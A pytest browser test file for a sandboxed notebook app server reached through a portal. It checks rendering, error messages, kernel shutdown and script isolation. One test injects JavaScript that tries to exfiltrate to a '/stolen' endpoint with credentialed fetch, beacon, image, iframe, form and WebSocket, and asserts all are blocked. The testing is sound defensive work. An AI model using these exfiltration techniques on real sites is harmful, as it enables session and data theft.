"""The app page in a real browser: it works, tells what went wrong, and its scripts cannot reach the portal."""

from __future__ import annotations

import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from tests.appserver.conftest import app_server, plain_environment, publish
from tests.appserver.portal import Portal
from tests.appserver.site import APP, OTHER, Hardened, Site, Viewer
from tests.helpers.browser import new_context, watched
from tests.helpers.ports import free_port

pytestmark = pytest.mark.browser


def come_from_portal(
    page: Any, site: Hardened, server: Portal, app: str = APP, language: str = "en", person: str = "rita"
) -> None:
    """Open the app as the portal does it: a form post from its origin."""
    ticket = site.ticket(person, app, language)
    server.form = f'<form method="post" action="{site.base}/enter"><input name="ticket" value="{ticket}"><button>'
    page.goto(server.url)
    page.click("button")


@contextmanager
def app_opened(
    browser: Any, site: Hardened, server: Portal, app: str = APP, language: str = "en", **profile: Any
) -> Iterator[Any]:
    """A watched page of the app, complete and alive, in a browser profile of its own."""
    context = new_context(browser, **profile)
    page = watched(context.new_page())
    come_from_portal(page, site, server, app, language)
    page.wait_for_selector("body.sb-ready")
    yield page
    context.close()


@pytest.mark.parametrize("language", ["en", "zh-CN"])
def test_open_and_move_a_control(page: Any, ours: Hardened, portal_server: Portal, language: str) -> None:
    problems: list[str] = []
    elsewhere: list[str] = []
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.on("console", lambda m: problems.append(m.text) if m.type == "error" else None)
    page.on("request", lambda r: None if r.url.startswith((ours.base, portal_server.url)) else elsewhere.append(r.url))
    # Somebody of their own: one person may have so many pages open, and the server hears late of those that tests
    # before this one left.
    come_from_portal(page, ours, portal_server, language=language, person="ada")
    page.wait_for_selector(".result")
    assert page.inner_text(".result") == "risk = 88 %"
    page.focus("input[type=range]")
    page.keyboard.press("ArrowRight")
    page.wait_for_function("() => document.querySelector('.result').innerText == 'risk = 87 %'")
    assert page.get_attribute("html", "lang") == language
    assert ("怎样看这个页面" if language == "zh-CN" else "How to read this") in page.inner_text("header")
    assert not problems
    assert not [url for url in elsewhere if not url.startswith(("data:", "blob:", "ws://localhost"))]


def test_a_failing_control_shows_no_traceback(page: Any, ours: Hardened, portal_server: Portal) -> None:
    come_from_portal(page, ours, portal_server)
    page.wait_for_selector(".result")
    page.get_by_text("Fail", exact=True).click()
    page.wait_for_function("() => document.querySelector('.result').innerText == 'failing'")
    page.focus("input[type=range]")
    page.keyboard.press("ArrowRight")  # answered after the failure, which is told by then
    page.wait_for_function("() => document.querySelector('.result').innerText == 'risk = 87 %'")
    assert "text of a traceback" not in page.content()


def test_a_failing_cell_says_so_in_words(page: Any, ours: Hardened, portal_server: Portal) -> None:
    come_from_portal(page, ours, portal_server, OTHER)
    page.wait_for_selector(".sb-cell-failed")
    assert "ZeroDivisionError" not in page.content()


def test_leaving_ends_the_kernel(page: Any, ours: Hardened, portal_server: Portal) -> None:
    come_from_portal(page, ours, portal_server)
    page.wait_for_selector(".result")
    kernel = page.evaluate("JSON.parse(document.getElementById('sandbox-page').textContent).kernelId")
    viewer = Viewer(ours.base, {c["name"]: c["value"] for c in page.context.cookies(ours.base)}, ours.base)
    assert viewer.alive(kernel)
    page.goto("about:blank")
    deadline = time.monotonic() + 20
    while viewer.alive(kernel):
        assert time.monotonic() < deadline, "the kernel outlived its page"
        time.sleep(0.1)


def test_author_script_reaches_the_portal_from_voila_as_it_comes(page: Any, stock: Site, portal_server: Portal) -> None:
    page.goto(portal_server.url)
    portal_server.seen.clear()
    # On the portal's host name, as somebody in a hurry would serve it: cookies know no ports.
    page.goto(f"{stock.base.replace('localhost', '127.0.0.1')}{stock.anonymous().path(OTHER)}")
    page.wait_for_function("() => document.getElementById('ran')?.textContent")
    deadline = time.monotonic() + 30
    while ("POST", "/seen-by-script", True) not in portal_server.seen:  # with the reviewer's session
        assert time.monotonic() < deadline, portal_server.seen
        page.wait_for_timeout(50)


def test_author_script_does_not_even_run_on_ours(page: Any, ours: Hardened, portal_server: Portal) -> None:
    portal_server.seen.clear()
    come_from_portal(page, ours, portal_server, OTHER)
    page.wait_for_selector(".result")
    page.wait_for_selector("#ran", state="attached")
    page.wait_for_timeout(300)  # the picture without a source has failed by now, and its handler was not run
    assert page.inner_text("#ran") == ""
    assert not [path for _, path, _ in portal_server.seen if path == "/seen-by-script"]


def test_a_script_that_runs_all_the_same_stays_at_home(page: Any, ours: Hardened, portal_server: Portal) -> None:
    """The second layer: run in the page by the debugger, past the first one."""
    come_from_portal(page, ours, portal_server)
    page.wait_for_selector(".result")
    portal_server.seen.clear()
    reached = page.evaluate(
        """async portal => {
            const tries = {
              fetch: () => fetch(portal + '/stolen', {method: 'POST', mode: 'no-cors', credentials: 'include'}),
              beacon: async () => { if (!navigator.sendBeacon(portal + '/stolen', 'x')) throw 'refused'; },
              image: () => new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no;
                i.src = portal + '/stolen'; setTimeout(no, 1500); }),
              frame: () => new Promise((ok, no) => { const f = document.createElement('iframe');
                f.src = portal + '/stolen'; document.body.append(f); setTimeout(no, 800); }),
              form: async () => { const f = document.createElement('form'); f.method = 'post';
                f.action = portal + '/stolen'; f.target = '_blank'; document.body.append(f); f.submit(); throw 0; },
              socket: () => new Promise((ok, no) => { try { const s = new WebSocket(portal.replace('http', 'ws'));
                s.onopen = ok; s.onerror = no; } catch (e) { no(e); } }),
            };
            const done = [];
            for (const [name, act] of Object.entries(tries)) {
              try { await act(); done.push(name); } catch (e) { /* refused */ }
            }
            return done;
        }""",
        portal_server.url,
    )
    page.wait_for_timeout(500)
    # A beacon call only says that it was queued; whether anything arrived is what counts.
    assert set(reached) <= {"beacon"}
    assert not [path for _, path, _ in portal_server.seen if path in ("/stolen", "/")]


def test_no_room_is_told_kindly(tmp_path: Path, portal_server: Portal) -> None:
    versions = {APP: publish(tmp_path / "home", APP, portal_server.url, "controls")}
    with app_server(tmp_path / "home", tmp_path, portal_server.url, versions, SANDBOX_APP_KERNELS="1") as site:
        viewer = site.viewer("rita")
        held = viewer.connect(viewer.open())
        answer = site.viewer("bob").request("GET", viewer.path())
        assert answer.status_code == 429 and int(answer.headers["Retry-After"]) > 0
        assert "no room" in answer.text and "Traceback" not in answer.text
        held.close()


def test_a_taken_port_is_named(tmp_path: Path) -> None:
    port = free_port()
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", port))
        taken.listen()
        environment = {
            **plain_environment(tmp_path),
            "SANDBOX_HOME": str(tmp_path / "home"),
            "SANDBOX_APPS_PORT": str(port),
        }
        done = subprocess.run(
            [sys.executable, "-m", "sandbox.appserver"], env=environment, capture_output=True, text=True, timeout=60
        )
    assert done.returncode == 1 and str(port) in done.stderr and "Traceback" not in done.stderr
